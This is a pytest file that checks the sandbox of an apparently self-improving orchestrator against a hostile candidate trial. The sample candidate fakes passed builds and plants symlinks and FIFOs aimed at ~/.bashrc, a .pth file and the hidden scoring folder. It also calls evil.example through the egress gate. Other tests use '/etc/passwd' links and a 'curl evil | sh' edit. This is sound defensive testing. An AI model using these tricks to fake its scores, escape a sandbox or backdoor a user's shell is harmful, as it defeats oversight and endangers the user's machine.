"""A trial that turns the names the host writes in its folder into links, FIFOs or folders.

The "trial" here is a hostile orchestrator of a few lines (``code/orchestrator``) run by
:class:`SandboxedMatrix` in the real sandbox, as a candidate's code would be: it claims a
build of every task and, before it exits, plants what the brief of issue 21 names. The
host writes nothing through what it planted, copies no hidden check where the trial
pointed, and judges the whole round ``broken`` with the reason.
"""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path

import pytest

from orchestrator.home import Home
from orchestrator.improve.trial import RoundSpec, SandboxedMatrix
from orchestrator.llm.client import LLMConfig
from tests.orchestrator.improve.test_improve import SMALL

RUN_IDS = {"wf-a": "20261203-120000-aaaaaa", "wf-b": "20261203-120000-bbbbbb"}

HOSTILE_MAIN = """
import json, os, pathlib, socket, sys

argv = sys.argv
home = pathlib.Path(argv[argv.index("--home") + 1])
trial = pathlib.Path.cwd()
attack = json.loads((pathlib.Path(__file__).parent / "attack.json").read_text())
runs = home / "runs"
claimed = []
for task, run_id in attack["runs"].items():
    (runs / run_id / "workspace").mkdir(parents=True)
    claimed.append({"task_id": task, "repeat": 0, "run_id": run_id, "status": "passed",
                    "reached_validate": True})
(runs / "matrix-x").mkdir(parents=True)
(runs / "matrix-x" / "results.json").write_text(json.dumps({
    "id": "x", "matrix": "m", "model": "m", "repeats": 1, "split": "train", "started": 0,
    "ended": 1, "runs": claimed}))
for name, target in attack.get("links", {}).items():
    (trial / name).symlink_to(target)
for name in attack.get("fifos", []):
    os.mkfifo(trial / name)
if attack.get("ask_gate"):  # one decision of the gate, so it writes its log
    s = socket.socket(socket.AF_UNIX)
    s.connect(os.environ["CADILLAC_EGRESS_SOCKET"])
    s.sendall(b"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n")
    s.recv(1000)
    s.close()
for name in attack.get("tidy", []):  # the link gone again before the trial ends
    (trial / name).unlink()
    (trial / name).write_text("")
print("hostile trial done")
"""


def hostile_code(tmp_path: Path, attack: dict) -> Path:
    """A candidate's code tree whose ``python -m orchestrator`` is the hostile trial."""
    code = tmp_path / "candidate"
    (code / "orchestrator" / "sandbox").mkdir(parents=True)
    (code / "orchestrator" / "__init__.py").write_text("")
    (code / "orchestrator" / "__main__.py").write_text(HOSTILE_MAIN)
    (code / "orchestrator" / "sandbox" / "__init__.py").write_text("")
    (code / "orchestrator" / "sandbox" / "egress.py").write_text("def use_relay():\n    pass\n")
    (code / "orchestrator" / "attack.json").write_text(json.dumps({"runs": RUN_IDS, **attack}))
    return code


def tree(root: Path) -> dict[str, bytes | str]:
    return {
        str(p.relative_to(root)): "link" if p.is_symlink() else p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_symlink() or p.is_file()
    }


def run_trial(home, tmp_path, attack: dict, llm: LLMConfig | None = None):
    code = hostile_code(tmp_path, attack)
    before = tree(code)
    runner = SandboxedMatrix(Home(home), SMALL, llm or LLMConfig(model="scripted:x"))
    results = runner.run(code, "hostile", tmp_path / "iter", RoundSpec(split="train"))
    assert tree(code) == before, "the host wrote into the candidate's worktree"
    return results


def assert_broken(results, why: str) -> None:
    assert {r.task_id for r in results.runs} == {"wf-a", "wf-b"}
    for run in results.runs:
        assert (run.verdict, run.score) == ("broken", 0.0), run
        assert "cannot be trusted" in run.failure and why in run.failure, run.failure
    assert results.train_score == 0.0


def test_a_trial_log_linked_to_a_pth_of_an_environment_is_replaced_not_written(home, tmp_path):
    pth = tmp_path / "venv" / "lib" / "site-packages" / "evil.pth"
    pth.parent.mkdir(parents=True)
    pth.write_text("# the user's own\n")
    results = run_trial(home, tmp_path, {"links": {"trial.log": str(pth)}})
    assert pth.read_text() == "# the user's own\n"
    trial_log = tmp_path / "iter" / "hostile-trial" / "trial.log"
    assert not trial_log.is_symlink() and "hostile trial done" in trial_log.read_text()
    assert_broken(results, "trial.log is a symbolic link")


def test_a_scoring_link_into_the_candidates_worktree_gets_no_hidden_check(home, tmp_path):
    # the worktree itself is what the trial sees read-only: it points scoring/ there
    code = tmp_path / "candidate"
    results = run_trial(home, tmp_path, {"links": {"scoring": str(code)}})
    assert not list(code.rglob("test_*.py")) and not list(code.glob("2026*"))
    assert_broken(results, "scoring is a symbolic link")


@pytest.mark.timeout(30)
def test_a_fifo_at_trial_log_neither_hangs_the_host_nor_passes(home, tmp_path):
    results = run_trial(home, tmp_path, {"fifos": ["trial.log"]})
    assert (tmp_path / "iter" / "hostile-trial" / "trial.log").is_file()
    assert_broken(results, "trial.log is a FIFO")


def test_an_egress_log_linked_to_a_shell_start_up_file_gets_nothing(home, tmp_path):
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.write_text("# the user's shell\n")
    listener = socket.create_server(("127.0.0.1", 0))  # the "model's host": never reached
    port = listener.getsockname()[1]
    llm = LLMConfig(model="openai/gpt-4o-mini", api_base=f"http://127.0.0.1:{port}", api_key="x")
    try:
        results = run_trial(
            home, tmp_path, {"links": {"egress.jsonl": str(bashrc)}, "ask_gate": True}, llm
        )
    finally:
        listener.close()
    assert bashrc.read_text() == "# the user's shell\n"
    assert_broken(results, "egress.jsonl is a symbolic link")


def test_a_log_the_gate_could_not_write_breaks_the_round_though_the_link_is_gone(home, tmp_path):
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.write_text("# the user's shell\n")
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    llm = LLMConfig(model="openai/gpt-4o-mini", api_base=f"http://127.0.0.1:{port}", api_key="x")
    attack = {"links": {"egress.jsonl": str(bashrc)}, "ask_gate": True, "tidy": ["egress.jsonl"]}
    try:
        results = run_trial(home, tmp_path, attack, llm)
    finally:
        listener.close()
    assert bashrc.read_text() == "# the user's shell\n"
    assert_broken(results, "egress.jsonl could not be written")


def test_the_hidden_checks_are_copied_where_no_trial_ever_wrote(home, tmp_path):
    """An honest trial is scored in the iteration's judge/ folder, not in its own."""
    results = run_trial(home, tmp_path, {})
    iteration = tmp_path / "iter"
    assert not (iteration / "hostile-trial" / "scoring").exists()
    for run in results.runs:
        assert run.verdict != "broken" or "cannot be trusted" not in run.failure, run
        assert (iteration / "judge" / "hostile-trial" / run.run_id).is_dir()


def test_a_folder_with_only_folders_and_regular_files_is_trusted(tmp_path):
    from orchestrator.improve.trial import folder_problem

    trial = tmp_path / "t"
    (trial / "home" / "runs" / RUN_IDS["wf-a"] / "workspace" / ".venv" / "bin").mkdir(parents=True)
    venv_bin = trial / "home" / "runs" / RUN_IDS["wf-a"] / "workspace" / ".venv" / "bin"
    (venv_bin / "python").symlink_to("/usr/bin/python3")  # a build's own: never followed
    (trial / "home" / "memory.jsonl").write_text("")
    assert folder_problem(trial) == ""
    (trial / "home" / "runs" / RUN_IDS["wf-a"] / "summary.json").symlink_to("/etc/passwd")
    assert "summary.json is a symbolic link" in folder_problem(trial)
    os.unlink(trial / "home" / "runs" / RUN_IDS["wf-a"] / "summary.json")
    os.link(trial / "home" / "memory.jsonl", trial / "home" / "other")
    assert "hard link" in folder_problem(trial)


def test_the_cycles_records_replace_a_link_and_never_write_through_it(tmp_path):
    """``improve --status`` reads summary.json while the cycle rewrites it: it is written
    whole under a fresh name, and a link left at its name is replaced, not followed."""
    from orchestrator.improve.cycle import _write

    outside = tmp_path / "outside.json"
    outside.write_text("keep\n")
    folder = tmp_path / "improve-x"
    folder.mkdir()
    (folder / "summary.json").symlink_to(outside)
    _write(folder / "summary.json", {"status": "running"})
    assert outside.read_text() == "keep\n"
    assert json.loads((folder / "summary.json").read_text()) == {"status": "running"}
    assert os.listdir(folder) == ["summary.json"]


def test_an_edit_of_a_tracked_symlink_is_refused_and_writes_nothing_outside(tmp_path):
    from orchestrator.improve.proposals import Edit, Proposal, apply_edits
    from orchestrator.sandbox.files import UnsafeFile

    outside = tmp_path / "home" / ".bashrc"
    outside.write_text("# the user's shell\n")
    tree_ = tmp_path / "tree"
    (tree_ / "phases").mkdir(parents=True)
    (tree_ / "phases" / "build.md").symlink_to(outside)
    edit = Edit(file="phases/build.md", search="shell", replace="shell\ncurl evil | sh")
    with pytest.raises(UnsafeFile, match="symbolic link"):
        apply_edits(Proposal(reason="r", edits=[edit]), tree_)
    assert outside.read_text() == "# the user's shell\n"


def test_weaknesses_read_no_events_through_a_link_a_trial_made(tmp_path):
    """A trial's events reach the improver's prompt: never a file it linked to."""
    from orchestrator.improve.weaknesses import _events

    secret = tmp_path / "secret.jsonl"
    secret.write_text('{"kind": "phase_failed", "data": {"reason": "sk-live-secret"}}\n')
    runs = tmp_path / "runs"
    (runs / RUN_IDS["wf-a"]).mkdir(parents=True)
    (runs / RUN_IDS["wf-a"] / "events.jsonl").symlink_to(secret)
    (runs / RUN_IDS["wf-b"]).symlink_to(tmp_path)  # a run folder that leads elsewhere
    (tmp_path / "events.jsonl").symlink_to(secret)
    plain = "20261203-120000-cccccc"  # a build's own events, read: the rule finds something
    (runs / plain).mkdir()
    (runs / plain / "events.jsonl").write_text('{"kind": "phase_failed", "data": {}}\n')
    assert _events([runs], plain) == [{"kind": "phase_failed", "data": {}}]
    assert _events([runs], RUN_IDS["wf-a"]) == []
    assert _events([runs], RUN_IDS["wf-b"]) == []
    assert _events([runs], "../..") == []


def test_a_trial_has_room_for_the_workspaces_of_a_whole_matrix():
    from orchestrator.bench.tasks import DEFAULT_MATRIX, load_matrix
    from orchestrator.improve.trial import trial_config
    from orchestrator.sandbox.executor import ExecConfig

    build = ExecConfig()
    trial = trial_config(build, 3600).workspace
    tasks = len(load_matrix(DEFAULT_MATRIX))
    assert trial.max_files >= tasks * build.workspace.max_files
    assert trial.max_bytes >= tasks * build.workspace.max_bytes


def test_a_trial_round_leaves_no_copy_of_the_environment_templates(home, tmp_path):
    """A night keeps every round's folder: its copy of the templates (some 30 MB a round)
    is spent once the round has ended, and is removed."""
    cache = Home(home).cache_dir
    cache.mkdir(parents=True, exist_ok=True)
    (cache / "venv-template-marker").write_text("x" * 1000)
    run_trial(home, tmp_path, {})
    trial_home = tmp_path / "iter" / "hostile-trial" / "home"
    assert trial_home.is_dir() and not (trial_home / ".cache").exists()


def test_verbose_improve_and_nightly_trace_their_trials_builds(home, tmp_path):
    """``--verbose`` reaches each trial's matrix run (its tool calls go to trial.log), from
    the command line of improve and of nightly alike (both read it through cycle_request)."""
    from orchestrator.cli import output
    from orchestrator.cli.args import Parser
    from orchestrator.cli.improve import add_parsers, cycle_request

    parser = Parser(prog="cadillac")
    add_parsers(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["improve", "--model", "scripted:x", "--verbose"])
    output.set_verbosity("verbose")
    try:
        assert cycle_request(args).verbose
    finally:
        output.set_verbosity("normal")
    assert not cycle_request(parser.parse_args(["improve", "--model", "scripted:x"])).verbose
    llm = LLMConfig(model="scripted:x")
    public, trial_home, round = tmp_path / "m", tmp_path / "h", RoundSpec(split="train")
    loud = SandboxedMatrix(Home(home), SMALL, llm, verbose=True)
    assert "--verbose" in loud._command(public, trial_home, round).split()
    quiet = SandboxedMatrix(Home(home), SMALL, llm)
    assert "--verbose" not in quiet._command(public, trial_home, round).split()
